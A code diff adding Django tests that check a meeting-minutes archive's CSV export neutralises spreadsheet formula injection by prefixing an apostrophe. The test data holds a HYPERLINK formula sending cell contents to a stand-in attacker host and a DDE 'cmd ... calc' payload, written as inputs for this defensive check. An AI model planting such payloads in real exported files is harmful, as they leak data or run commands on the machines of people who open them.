@@ -4,9 +4,10 @@ import csv
 import io
 import re
 
+import pytest
 from django.http import StreamingHttpResponse
 
-from minutes.models import AgendaItem
+from minutes.models import AgendaItem, Body
 
 
 def rows(response, delimiter=";"):
@@ -63,3 +64,29 @@ def test_results_page_links_its_csv(archive, client):
     html = client.get("/soeg/", {"q": "budget", "aar": "2024"}).content.decode()
     assert 'href="/soeg/csv/?q=budget&amp;aar=2024"' in html
     assert 'href="/soeg/csv/?q=budget&amp;aar=2024&amp;sep=komma"' in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(archive, client, start):
+    item = AgendaItem.objects.exclude(decision="").exclude(case=None).order_by("pk").first()
+    item.title = f'{start}HYPERLINK("http://angriber.example/?d="&A1;"Se bilag")'
+    item.decision = f"{start}1+1 Godkendt; dog med forbehold"
+    item.save()
+    Body.objects.filter(pk=item.meeting_body_id).update(name=f"{start}cmd|' /C calc'!A0")
+    for sep, delimiter in (("semikolon", ";"), ("komma", ",")):
+        table = rows(client.get("/soeg/csv/", {"sagsnr": item.case.number, "sep": sep}), delimiter)
+        mine = [row for row in table[1:] if row[7].endswith(f"/punkt/{item.pk}/")][0]
+        # One apostrophe in front, the text otherwise as it is.
+        assert mine[3] == "'" + item.title
+        assert mine[6] == "'" + item.decision
+        assert mine[1] == f"'{start}cmd|' /C calc'!A0"
+        assert mine[0] == item.meeting_date.isoformat() and mine[2] == str(item.number)
+
+
+def test_csv_leaves_text_that_only_contains_formula_signs_alone(archive, client):
+    item = AgendaItem.objects.exclude(decision="").exclude(case=None).order_by("pk").first()
+    item.decision = "Godkendt: 2 + 2 = 4, se @bilag - og -5 kr."
+    item.save()
+    table = rows(client.get("/soeg/csv/", {"sagsnr": item.case.number}))
+    mine = [row for row in table[1:] if row[7].endswith(f"/punkt/{item.pk}/")][0]
+    assert mine[6] == item.decision
